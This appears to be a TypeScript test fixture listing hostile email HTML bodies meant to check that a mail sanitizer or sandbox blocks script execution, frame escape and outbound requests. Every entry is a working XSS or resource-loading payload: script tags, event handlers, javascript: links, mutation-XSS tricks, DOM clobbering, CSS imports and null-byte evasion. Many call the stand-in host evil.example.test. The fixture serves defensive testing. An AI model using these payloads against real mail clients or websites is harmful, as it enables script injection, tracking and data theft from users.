/**
 * HTML bodies that try to run a script, to leave the frame or to fetch something. A script that
 * runs opens a dialog, writes `window.top.pwned` or calls home; a request that leaves reaches the
 * browser's trap.
 */
const home = 'http://evil.example.test'
const run = `top.pwned=1;alert(1);fetch('${home}/script')`

export const hostileMail: Record<string, string> = {
  'script element': `<script>${run}</script>`,
  'script in an SVG': `<svg><script>${run}</script></svg>`,
  'script split by a comment': `<!--><script>${run}</script>-->`,
  'script after an unclosed title': `<title><a title="</title><script>${run}</script>">`,
  'script in noscript': `<noscript><p title="</noscript><script>${run}</script>">`,
  'script in a template': `<template><script>${run}</script></template>`,
  'script in MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'event handlers': `<img src=x onerror="${run}"><body onload="${run}"><svg onload="${run}"><details open ontoggle="${run}">`,
  'handlers by animation': `<style>@keyframes x{}</style><b style="animation:x 1ms" onanimationstart="${run}">x</b><svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  'javascript links': `<a id=link href="javascript:${run}">a</a><a href="java&#09;script:${run}">b</a><a href=" &#1;javascript:${run}">c</a><form action="javascript:${run}"><button>go</button></form>`,
  'data links': `<a href="data:text/html,<script>${run}</script>">a</a><iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  'srcdoc frame': `<iframe srcdoc="<script>${run}</script>"></iframe><iframe src="${home}/frame"></iframe>`,
  'object and embed': `<object data="${home}/object.swf"></object><embed src="${home}/embed.svg"><applet code="${home}/x.class"></applet>`,
  'object with SVG data': `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>"></object>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${home}/refresh"><meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  'meta that weakens the policy': `<meta http-equiv="Content-Security-Policy" content="default-src *"><script src="${home}/x.js"></script>`,
  'base element': `<base href="${home}/"><img src="relative.png"><a href="x">x</a>`,
  preloads: [
    'preconnect',
    'dns-prefetch',
    'prefetch',
    'preload',
    'prerender',
    'stylesheet',
    'icon',
    'manifest',
    'modulepreload',
  ]
    .map((rel) => `<link rel="${rel}" as="image" href="${home}/${rel}">`)
    .join(''),
  images: `<img src="${home}/a.png"><img srcset="${home}/b.png 1x, ${home}/c.png 2x"><picture><source srcset="${home}/d.png"><img></picture><input type=image src="${home}/e.png"><table background="${home}/f.png"><tr><td background="${home}/g.png">x</td></tr></table><video poster="${home}/h.png" src="${home}/i.mp4" autoplay></video><audio src="${home}/j.mp3" autoplay></audio><image src="${home}/k.png">`,
  'protocol-relative and odd schemes': `<img src="//evil.example.test/a.png"><img src="/\\evil.example.test/b.png"><img src="ht\ntp://evil.example.test/c.png"><img src="https:evil.example.test/d.png">`,
  'images in SVG': `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image href="${home}/a.png" width=9 height=9 /><image xlink:href="${home}/b.png" width=9 height=9 /><use href="${home}/c.svg#x" /><filter id=f><feImage href="${home}/d.png" /></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  'style sheets': `<style>@import url(${home}/a.css);@import "${home}/b.css";@font-face{font-family:x;src:url(${home}/c.woff)}body{font-family:x;background:url(${home}/d.png);cursor:url(${home}/e.cur),auto;list-style:url('${home}/f.png')}b::after{content:url("${home}/g.png")}@media screen{p{background:image-set("${home}/h.png" 1x)}}</style><p><b>x</b></p>`,
  'escaped style': `<div style="background:u\\72l(${home}/a.png)">x</div><div style="background:url(\\68ttp://evil.example.test/b.png)">y</div><style>@\\69mport '${home}/c.css';</style>`,
  'style that ends early': `<style></style><script>${run}</script><img src="${home}/a.png"></style>`,
  'a form that sends itself': `<form id=f action="${home}/form" method=post><input autofocus onfocus="${run}"><button>x</button></form><button form=f formaction="${home}/button">y</button>`,
  'names that shadow the document': `<form name=body><input name=appendChild></form><img name=documentElement><a id=location href="${home}">x</a>`,
  'a page that wants the top': `<a target=_top href="${home}/top">x</a><script>top.location='${home}/navigated'</script>`,
  'pings and popups': `<a ping="${home}/ping" href="${home}/a">x</a><script>open('${home}')</script>`,
  'server-side and conditional comments': `<!--[if gte IE 4]><script>${run}</script><![endif]--><?php ${run} ?><![CDATA[<script>${run}</script>]]>`,
  'nested quotes and null bytes': `<img src="x\u0000" onerror\u0000="${run}"><scr\u0000ipt>${run}</scr\u0000ipt><a href="jav\u0000ascript:${run}">x</a>`,
  'XML and portals': `<portal src="${home}/portal"></portal><xml id=x><script>${run}</script></xml><fencedframe src="${home}/fence"></fencedframe>`,
}
